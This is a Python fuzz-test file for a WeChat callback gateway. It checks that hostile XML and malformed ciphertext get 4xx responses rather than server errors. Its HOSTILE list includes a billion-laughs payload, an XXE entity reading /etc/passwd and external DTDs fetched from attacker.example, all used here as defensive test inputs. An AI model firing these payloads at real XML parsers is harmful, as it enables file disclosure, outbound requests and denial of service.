"""Hostile WeChat callbacks (SECURITY.md): correctly signed requests whose XML, ciphertext
or AppID is hostile get a 4xx or the documented ``success``, never a 5xx; the pure
parsing and decryption functions raise only the channel's own errors."""

from __future__ import annotations

import base64
import secrets
import time

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from channels.errors import GatewayError
from channels.wechat import messages, security
from channels.wechat.crypto import Cipher
from tests.unit.conftest import FakeRasa
from tests.unit.wechat_support import (
    ACCOUNT,
    AES_KEY,
    APP_ID,
    TOKEN,
    Upstreams,
    gateway,
    plain,
    sealed,
    sha1,
    text_xml,
)

LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                    for i in range(1, 10))
          + ']><xml><ToUserName>gh</ToUserName><FromUserName>o1</FromUserName><CreateTime>1</CreateTime>'
            '<MsgType>text</MsgType><Content>&lol9;</Content><MsgId>1</MsgId></xml>')
HOSTILE = [
    LAUGHS,
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>',
    '<?xml version="1.0"?><!doctype x SYSTEM "http://attacker.example/x.dtd"><xml/>',
    '<!  ENTITY % p SYSTEM "http://attacker.example/p">',
    "<xml>" + "<a>" * 5000 + "</a>" * 5000 + "</xml>",
    "<xml><MsgType>text</MsgType><Content>" + "长" * 20000 + "</Content></xml>",
    "<xml><MsgType><x/></MsgType><FromUserName><a>1</a><a>2</a></FromUserName></xml>",
    "<xml><MsgType>event</MsgType><Event>subscribe</Event></xml>",
    "<xml></xml>", "<xml>", "not xml at all", "", "<xml><MsgType>text</MsgType></xml>",
    "<xml><MsgType>voice</MsgType><Recognition>你好</Recognition><MsgId>x</MsgId></xml>",
]
ALLOWED = {200, 400, 401, 403, 413}
tags = st.sampled_from(["ToUserName", "FromUserName", "CreateTime", "MsgType", "Content", "MsgId",
                        "Event", "EventKey", "Recognition", "PicUrl", "Encrypt", "x"])
values = st.one_of(st.text(max_size=60), st.sampled_from(["text", "event", "voice", "image", "subscribe",
                                                          "CLICK", "0", "-1", "99999999999999999999"]))
elements = st.lists(st.tuples(tags, values), max_size=8).map(
    lambda pairs: "<xml>" + "".join(f"<{t}><![CDATA[{v}]]></{t}>" for t, v in pairs) + "</xml>")
inner = st.one_of(st.sampled_from(HOSTILE), elements, st.text(max_size=300))


@settings(max_examples=300, deadline=None, database=None)
@given(st.binary(max_size=4096))
def test_screening_and_parsing_raise_only_the_channels_errors(body: bytes) -> None:
    try:
        messages.parse(security.screen_xml(body))
    except GatewayError:
        pass


@settings(max_examples=200, deadline=None, database=None)
@given(st.one_of(st.text(max_size=400), st.binary(max_size=300).map(lambda b: base64.b64encode(b).decode())))
def test_decrypting_anything_raises_only_malformed_request(encrypt: str) -> None:
    try:
        Cipher(TOKEN, AES_KEY, APP_ID).decrypt(encrypt)
    except GatewayError as exc:
        assert exc.status_code == 400


def test_hostile_xml_inside_genuine_safe_mode_callbacks(redis_server: str) -> None:
    upstreams = Upstreams(FakeRasa())
    with gateway(redis_server, upstreams) as client:

        @settings(max_examples=60, deadline=None, database=None, suppress_health_check=list(HealthCheck))
        @given(inner, st.sampled_from([APP_ID, "wx0000000000000000", ""]))
        def one(xml: str, app_id: str) -> None:
            query, body = sealed(xml, app_id=app_id)
            response = client.post("/wechat", params=query, content=body)
            assert response.status_code in ALLOWED, (response.status_code, xml[:80])
            if app_id != APP_ID or "<!" in xml.upper().replace(" ", ""):
                assert response.status_code == 400

        one()
        for xml in HOSTILE[:4]:  # entity tricks never reach the bot, whatever the mode
            query, body = sealed(xml)
            assert client.post("/wechat", params=query, content=body).status_code == 400
        assert not any("lol" in t for r in upstreams.rasa.requests for t in [r.get("text") or ""])


def test_bad_ciphertext_and_envelopes_with_a_valid_msg_signature(redis_server: str) -> None:
    with gateway(redis_server, Upstreams(FakeRasa())) as client:

        @settings(max_examples=60, deadline=None, database=None, suppress_health_check=list(HealthCheck))
        @given(st.one_of(st.text(max_size=200),
                         st.binary(max_size=200).map(lambda b: base64.b64encode(b).decode()),
                         st.sampled_from(["", "====", "!!!!", "A" * 4096, "abc", "YWJj\x00"])))
        def one(encrypt: str) -> None:
            ts, nonce = str(int(time.time())), secrets.token_hex(5)
            envelope = (f"<xml><ToUserName>{ACCOUNT}</ToUserName>"
                        f"<Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>")
            query = {"signature": sha1(TOKEN, ts, nonce), "timestamp": ts, "nonce": nonce,
                     "encrypt_type": "aes", "msg_signature": sha1(TOKEN, ts, nonce, encrypt.strip())}
            response = client.post("/wechat", params=query, content=envelope.encode("utf-8", "surrogatepass"))
            assert response.status_code in ALLOWED - {200}, response.status_code

        one()
        huge = b"<xml><Encrypt>" + b"A" * (security.MAX_BODY + 1) + b"</Encrypt></xml>"
        query, _ = sealed("<xml/>")
        assert client.post("/wechat", params=query, content=huge).status_code == 413


def test_hostile_xml_in_plaintext_mode(redis_server: str) -> None:
    with gateway(redis_server, Upstreams(FakeRasa()), wechat_encoding_aes_key=None) as client:

        @settings(max_examples=60, deadline=None, database=None, suppress_health_check=list(HealthCheck))
        @given(inner)
        def one(xml: str) -> None:
            query, body = plain(xml)
            response = client.post("/wechat", params=query, content=body)
            assert response.status_code in ALLOWED, (response.status_code, xml[:80])

        one()
        query, body = plain(text_xml("o-fuzz", "你好", 77))
        assert client.post("/wechat", params=query, content=body).status_code == 200
